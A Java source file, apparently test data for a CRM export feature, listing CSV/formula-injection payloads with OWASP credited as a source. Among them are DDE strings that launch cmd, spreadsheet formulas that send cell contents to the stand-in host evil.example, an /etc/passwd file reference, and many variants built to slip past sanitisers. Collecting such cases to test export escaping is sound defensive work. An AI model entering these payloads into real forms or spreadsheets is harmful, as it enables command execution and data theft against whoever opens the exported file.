package crm.export.audience;

import java.util.List;

/** What people type into forms to have a spreadsheet of somebody else compute it. */
final class Payloads {
  private Payloads() {}

  /** By OWASP's page on CSV injection, reports to programs that export, and ways around guards. */
  static final List<String> ALL =
      List.of(
          "=1+1",
          "=SUM(1,2)",
          "=cmd|' /C calc'!A0",
          "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
          "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
          "=WEBSERVICE(\"http://evil.example/\"&A1)",
          "=DDE(\"cmd\";\"/C calc\";\"x\")",
          "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
          "='file:///etc/passwd'#$passwd.A1",
          "=1+1\",=2+2",
          "=\"a\"&\"b\"",
          "=A1:A9",
          "==1+1",
          "=",
          "+1+1",
          "+SUM(1,2)",
          "+cmd|' /C calc'!A0",
          "+",
          "+-1",
          "-1+1",
          "-2+3+cmd|' /C calc'!A0",
          "-SUM(1,2)",
          "-",
          "--1",
          "@SUM(1+1)",
          "@A1",
          "@",
          "@=1",
          "\t=1+1",
          "\r=1+1",
          "\n=1+1",
          "\tplain",
          " =1+1",
          "\u00a0=1+1",
          "\ufeff=1+1",
          "\u200b=1+1",
          "\uff1d1+1",
          "\uff0b1+1",
          "\uff0d1+1",
          "\uff20SUM(1,2)",
          "=1+1\r\n=2+2",
          "=1;=2,=3");
}
